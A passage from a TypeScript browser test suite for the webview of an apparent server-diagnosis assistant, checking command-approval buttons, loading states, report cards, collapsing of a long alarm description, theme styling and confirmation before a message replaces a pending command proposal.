    many.commands = Array.from({ length: 14 }, (_, i) => ({ ...many.commands[0], id: `c${i + 1}`, command: `ps -o pid,comm -p ${1000 + i}`, purpose: `Process ${i + 1}` }));
    await init(harness, snapshot([event({ type: "node", node: "generate", phase: "started" }), event({ type: "proposal", proposal: many })]));
    const page = harness.page;
    await page.locator("section.proposal.interactive").waitFor();
    // The first checkbox takes the focus (and scrolls to it); the buttons must still show.
    await page.waitForFunction(`document.activeElement?.matches('li.command[data-command-id="c1"] input.select') === true`);
    for (const action of ["run-selected", "run-read-only", "reject"]) {
      assert.equal(await uncovered(page, `[data-action="${action}"]`), true, `${action} is visible and not under the follow-up box`);
    }
    await harness.shot("proposal-buttons-visible", false);
    // Scrolled anywhere within the proposal, they stay.
    await page.locator('li.command[data-command-id="c7"]').scrollIntoViewIfNeeded();
    assert.equal(await uncovered(page, '[data-action="run-selected"]'), true);
    await page.locator('[data-action="run-selected"]').click();
    await waitForPosted(harness, (m) => m.type === "approve");
  });

  void it("shows that it is loading until the thread arrives, and that the thread is starting until its first step", async () => {
    const harness = await open("dark");
    const page = harness.page;
    const loading = page.locator("#app .loading");
    assert.equal(await loading.isVisible(), true, "the page says it is loading before any message");
    assert.match((await loading.textContent()) ?? "", /Opening the diagnosis/);
    assert.equal(await page.locator("#app").getAttribute("aria-busy"), "true");
    await harness.shot("loading", false);

    const empty = snapshot([], "running", null);
    await harness.send({ type: "init", strings, locale: "en", thread: { ...empty, busy: true }, hosts: [] });
    await page.locator(".thread-header").waitFor();
    assert.equal(await loading.count(), 0);
    const starting = page.locator(".transcript .starting");
    assert.equal(await starting.isVisible(), true, "a busy thread with no steps yet says it is starting");
    assert.match((await starting.textContent()) ?? "", /starting/);
    await harness.shot("starting", false);
    await harness.send({ type: "entry", entry: event({ type: "node", node: "receive", phase: "started" }) });
    await starting.waitFor({ state: "detached" });
  });

  void it("shows one report card, the latest, however many turns wrote a report", async () => {
    const harness = await open();
    await init(harness, snapshot([], "done", null));
    const report = { threadId: "t-1", createdAt: at, alarm: null, host: null, question: null, proposals: [], runs: [], analysis: null, usage: null, language: "en" as const };
    await harness.send({ type: "entry", entry: event({ type: "report", report }) });
    await harness.send({ type: "entry", entry: { kind: "user", at, text: "why?" } });
    await harness.send({ type: "entry", entry: event({ type: "answer", text: ["Because."] }) });
    await harness.send({ type: "entry", entry: event({ type: "report", report }) });
    await harness.page.locator(".transcript > .report").first().waitFor();
    await harness.page.waitForFunction(`document.querySelector(".transcript > :last-child")?.classList.contains("report") === true`);
    assert.equal(await harness.page.locator(".report").count(), 1);
  });

  void it("collapses a huge alarm description and shows it whole on request", async () => {
    const harness = await open("light");
    const description = `${"Runbook: https://wiki.example.com/cpu <b>steps</b>\n".repeat(40)}${"x".repeat(200_000)}`;
    const thread = snapshot([event({ type: "proposal", proposal: proposal() })]);
    thread.header.alarm = makeAlarm({ name: "prod-web-01-cpu-high", description });
    await init(harness, thread);
    const page = harness.page;
    const card = page.locator(".header-card");
    const height = (await card.boundingBox())?.height ?? Infinity;
    assert.ok(height < 500, `the alarm card is ${height} px high`);
    const toggle = page.locator(".description .link-button");
    assert.equal(await toggle.textContent(), `Show all (${description.length.toLocaleString("en")} characters)`);
    assert.equal(await page.locator(".description b").count(), 0);
    await harness.shot("long-description-collapsed", false);
    await toggle.click();
    assert.equal(await page.locator(".description .pre-wrap").textContent(), description);
    assert.equal(await toggle.getAttribute("aria-expanded"), "true");
    await toggle.click();
    assert.ok(((await card.boundingBox())?.height ?? Infinity) < 500, "and collapses again");
  });

  void it("keeps the checkbox outlines after a theme switch (dark → high contrast → light)", async () => {
    const harness = await open("dark");
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    await applyTheme(page, "high-contrast");
    await applyTheme(page, "light");
    const box = page.locator('li.command[data-command-id="c2"] input.select');
    const style = await page.evaluate<{ appearance: string; width: string; color: string; background: string }>(`(() => {
      const cs = getComputedStyle(document.querySelector('li.command[data-command-id="c2"] input.select'));
      return { appearance: cs.appearance, width: cs.borderTopWidth, color: cs.borderTopColor, background: getComputedStyle(document.body).backgroundColor };
    })()`);
    assert.equal(style.appearance, "none", "drawn from theme variables, not left to the native control");
    assert.ok(parseFloat(style.width) >= 1, `border ${style.width}`);
    assert.notEqual(style.color, style.background, "the outline shows against the panel");
    assert.notEqual(style.color, "rgba(0, 0, 0, 0)");
    assert.equal(await box.isChecked(), false);
    await page.locator('li.command[data-command-id="c1"] input.select').waitFor();
    await harness.shot("proposal-light-after-dark", false);
  });

  void it("asks before a message replaces a waiting proposal; Keep keeps both, Reject and send sends it as the reason", async () => {
    const harness = await open();
    await init(harness, snapshot([event({ type: "proposal", proposal: proposal() })]));
    const page = harness.page;
    const box = page.locator("textarea.composer-input");
    await box.fill("look at the network first");
    await box.press("Enter");
    const confirm = page.locator(".confirm-replace");
    await confirm.waitFor({ state: "visible" });
    assert.equal((await harness.posted()).some((m) => m.type === "follow-up"), false, "nothing sent before the user decides");
    await page.locator('[data-action="keep-proposal"]').click();
    await confirm.waitFor({ state: "hidden" });
    assert.equal(await box.inputValue(), "look at the network first", "the message stays in the box");
    assert.equal(await page.locator("section.proposal.interactive").count(), 1, "the proposal still waits");
    assert.equal((await harness.posted()).some((m) => m.type === "follow-up" || m.type === "reject"), false);

    await page.locator('[data-action="send"]').click();
    await confirm.waitFor({ state: "visible" });
    await page.locator('[data-action="replace-proposal"]').click();
    const followUp = await waitForPosted(harness, (m) => m.type === "follow-up");
    assert.equal(followUp.text, "look at the network first");
    assert.equal(followUp.rejectPending, true);
  });

  void it("sends a message without asking when no proposal waits", async () => {
    const harness = await open();
    await init(harness, snapshot([], "done", null));
    await harness.page.locator("textarea.composer-input").fill("and the disk?");
    await harness.page.locator('[data-action="send"]').click();
    const followUp = await waitForPosted(harness, (m) => m.type === "follow-up");
    assert.equal(followUp.rejectPending, false);
    assert.equal(await harness.page.locator(".confirm-replace").isVisible(), false);
  });

  void it("words counts with proper plurals and names a host once when its id is its name", async () => {
    const harness = await open();
    const thread = snapshot(
      [
        { kind: "decision", at, round: 1, decision: { kind: "approve", commandIds: ["c1"] } },
        { kind: "decision", at, round: 2, decision: { kind: "approve", commandIds: ["c1", "c2"], add: ["df -h"] } },
        event({ type: "usage", usage: { model: "m", promptTokens: 10, completionTokens: 5, totalTokens: 15, costUsd: null, calls: 1 } }),
        { kind: "host-picked", at, host: { id: "demo-host", name: "demo-host", transport: "agent" } },
      ],
      "done",
      null,
    );
    thread.header.host = { id: "demo-host", name: "demo-host", transport: "agent" };
    await init(harness, thread);
    const page = harness.page;
    const decisions = await page.locator(".entry.decision.approved .bubble > div:first-child").allTextContents();
    assert.deepEqual(decisions, ["You approved 1 command.", "You approved 3 commands."]);
    assert.match((await page.locator(".usage").textContent()) ?? "", /in 1 call · m/);
    const host = await page.locator(".header-card .field", { hasText: "host" }).locator("dd").textContent();
    assert.equal(host, "demo-host");
    assert.equal(await page.locator(".entry.decision .bubble", { hasText: "Host:" }).textContent(), "Host: demo-host");
    assert.ok(!((await page.locator("#app").textContent()) ?? "").includes("demo-host (demo-host)"));
  });
});
